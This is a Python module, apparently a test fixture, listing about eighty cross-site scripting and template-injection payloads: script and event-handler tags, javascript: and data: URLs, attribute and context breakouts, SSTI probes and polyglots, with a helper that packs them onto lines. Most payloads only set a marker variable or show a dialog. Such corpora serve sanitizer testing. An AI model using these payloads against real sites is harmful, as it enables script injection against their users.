"""What somebody may write who wants a page to run it: each string would set `ran`, show a dialog or come out as 49."""

import itertools

PAYLOADS = (
    # elements
    "<script>ran=1</script>",
    "<SCRIPT SRC=data:,ran=1></SCRIPT>",
    "<scr<script>ipt>ran=1</scr</script>ipt>",
    "<img src=x onerror=ran=1>",
    "<img src=x onerror='alert(1)'//",
    "<image src=x onerror=ran=1>",
    "<body onload=ran=1>",
    "<input autofocus onfocus=ran=1>",
    "<select autofocus onfocus=ran=1>",
    "<details open ontoggle=ran=1>x",
    "<video><source onerror=ran=1></video>",
    "<audio src=x onerror=ran=1>",
    "<marquee onstart=ran=1>x</marquee>",
    "<iframe srcdoc='<script>top.ran=1</script>'></iframe>",
    "<iframe src=javascript:top.ran=1></iframe>",
    "<object data=data:text/html,<script>ran=1</script>></object>",
    "<embed src=javascript:ran=1>",
    "<a href=javascript:ran=1>go</a>",
    "<form action=javascript:ran=1><button>go</button></form>",
    "<button form=x formaction=javascript:ran=1>go</button>",
    "<base href=//127.0.0.2/>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "<link rel=stylesheet href=data:text/css,*{color:red}>",
    "<template shadowrootmode=open><img src=x onerror=ran=1>",
    "<keygen onfocus=ran=1 autofocus>",
    # svg and mathematics
    "<svg onload=ran=1>",
    "<svg><script>ran=1</script></svg>",
    "<svg><animate onbegin=ran=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran=1><text y=9>go",
    "<svg><style><img src=x onerror=ran=1></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran=1>",
    "<math href=javascript:ran=1>go</math>",
    # out of what words stand in
    "</title><script>ran=1</script>",
    "</textarea><script>ran=1</script>",
    "</script><script>ran=1</script>",
    "</style><script>ran=1</script>",
    "</noscript><img src=x onerror=ran=1>",
    "</option></select><img src=x onerror=ran=1>",
    "--><img src=x onerror=ran=1><!--",
    "]]><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='ran=1'/><![CDATA[",
    "<!--><img src=x onerror=ran=1>-->",
    "<plaintext>",
    # out of an attribute
    '" autofocus onfocus="ran=1" x="',
    "' autofocus onfocus='ran=1' x='",
    "x autofocus onfocus=ran=1 x",
    '"><img src=x onerror=ran=1>',
    "'><img src=x onerror=ran=1>",
    "` onmouseover=ran=1 `",
    '" style="animation:x" onanimationstart="ran=1',
    '\\"-ran=1//',
    "&quot; onfocus=&quot;ran=1&quot; autofocus=&quot;",
    "&lt;script&gt;ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=ran=1&#62;",
    # addresses
    "javascript:ran=1",
    "JaVa\tScRiPt:ran=1",
    "java&#10;script:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "//127.0.0.2/x.js",
    "[go](javascript:ran=1)",
    '![x](x"onerror="ran=1)',
    # templates, formats and scripts
    "zq{{7*7}}qz",
    "zq${7*7}qz",
    "zq#{7*7}qz",
    "zq<%= 7*7 %>qz",
    "zq{% print 7*7 %}qz",
    "%(x)s %s {0} {x.__class__}",
    "{{constructor.constructor('ran=1')()}}",
    "';ran=1;//",
    '";document.title="ran";//',
    "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
    # styles
    "<style>@import'//127.0.0.2/x.css';</style>",
    "<p style=background:url(javascript:ran=1)>x",
    "}*{background:url(//127.0.0.2/x)}",
    # letters
    "\u200f<img src=x onerror=ran=1>\u200f",
    "\uff1cscript\uff1eran=1\uff1c/script\uff1e",
    "<\u0130mg src=x onerror=ran=1>",
    "<script\u00a0>ran=1</script>",
    # many at once
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=ran=1 )//</stYle/</titLe/--!>\\x3csVg/oNloAd=ran=1>",
    "'\"--></style></script></textarea></title><svg onload=ran=1>",
)

WHOLE = "\n".join(PAYLOADS)
"""All of them, a line each."""

_next = itertools.cycle(PAYLOADS)
_held: list[str] = []


def some(most: int) -> str:
    """The next strings of the corpus on one line, as many as fit into so many characters."""
    taken = _held.pop() if _held else next(_next)
    while len(more := f"{taken} {(one := next(_next))}") <= most:
        taken = more
    _held.append(one)
    return taken
